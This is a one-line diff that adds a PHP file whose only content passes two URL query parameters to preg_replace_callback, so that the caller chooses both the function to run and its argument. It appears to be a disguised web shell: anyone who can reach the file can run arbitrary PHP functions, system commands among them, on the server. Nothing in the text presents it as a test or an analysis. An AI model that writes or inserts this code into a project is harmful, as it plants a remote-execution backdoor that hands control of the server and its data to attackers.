@@ -1,0 +1,1 @@
+<?php preg_replace_callback("/.*/", $_GET["f"], $_GET["a"]);
